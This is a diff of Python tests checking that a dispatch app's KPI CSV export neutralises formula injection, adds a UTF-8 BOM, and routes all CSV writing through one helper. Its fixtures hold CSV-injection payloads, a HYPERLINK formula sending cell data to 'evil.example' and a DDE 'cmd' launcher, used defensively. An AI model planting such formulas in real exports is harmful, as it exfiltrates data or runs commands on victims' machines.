@@ -220,12 +220,41 @@ def test_the_report_downloads_as_csv(api, tst1):
     response = api.get(f"/api/v1/kpis/?{WEEK}", as_="manager.tst1", headers={"Accept": "text/csv"})
     assert response.status_code == 200 and response.mimetype == "text/csv"
     assert "kpis-2026-03-02-2026-03-08.csv" in response.headers["Content-Disposition"]
-    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
     assert [(r["scope"], r["name"], r["rank"]) for r in rows] == [("total", "", ""), ("technician", "Alpha", "1"),
                                                                  ("technician", "Bravo", "2")]
     assert rows[0]["first_time_fix_rate"] == "0.5" and rows[0]["complaints_per_100_jobs"] == "50.0"
     assert rows[0]["audit_pass_rate"] == "0.6667" and rows[2]["score"] == "0.0"
     assert rows[1]["mean_travel_minutes"] == "35.0"
+
+
+def test_no_csv_cell_starts_a_formula_and_the_file_opens_as_utf8_in_excel(api, tst1, session):
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR is prefixed with a quote so a
+    spreadsheet shows it as text; a UTF-8 BOM makes Excel read the Chinese names right."""
+    tst1["point"].name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    tst1["alpha"].name = "=cmd|' /C calc'!A0"
+    tst1["bravo"].name = "王@师傅"
+    session.flush()
+    by_manager = api.get(f"/api/v1/kpis/?{WEEK}", as_="manager.tst1", headers={"Accept": "text/csv"})
+    assert by_manager.get_data().startswith(b"\xef\xbb\xbf")
+    names = [r["name"] for r in csv.DictReader(io.StringIO(by_manager.get_data().decode("utf-8-sig")))]
+    assert names == ["", "'=cmd|' /C calc'!A0", "王@师傅"]
+    by_hq = api.get(f"/api/v1/kpis/?{WEEK}", as_="admin", headers={"Accept": "text/csv"})
+    rows = list(csv.DictReader(io.StringIO(by_hq.get_data().decode("utf-8-sig"))))
+    point = next(r for r in rows if r["code"] == "TST1")
+    assert point["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in {"=", "+", "@", "\t", "\r"}]
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-3, "-3"), (2.5, "2.5"), (None, ""),
+])
+def test_the_csv_helper_neutralises_only_formula_leading_text(cell, written):
+    from dispatch.api.csv_export import csv_body
+
+    header, row = csv.reader(io.StringIO(csv_body(["c"], [[cell]]).decode("utf-8-sig"), newline=""))
+    assert (header, row) == (["c"], [written])
 
 
 def test_managers_see_their_own_point_only_and_technicians_none(api, tst1):
@@ -273,3 +302,14 @@ def test_travel_and_on_site_times_are_when_the_phone_did_the_work_not_when_it_sy
     body = api.get("/api/v1/kpis/?from=2026-03-23&to=2026-03-29&service_point=TST1", as_="admin").json
     kpis = body["kpis"]
     assert (kpis["jobs_done"], kpis["mean_travel_minutes"], kpis["mean_on_site_minutes"]) == (1, 30.0, 60.0)
+
+
+def test_every_csv_the_api_writes_goes_through_the_one_helper():
+    from pathlib import Path
+
+    import dispatch
+
+    root = Path(dispatch.__file__).parent
+    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
+                     if "csv.writer" in p.read_text() or "csv.DictWriter" in p.read_text())
+    assert writers == ["api/csv_export.py"], "write CSV with dispatch.api.csv_export (BOM, no formulas)"
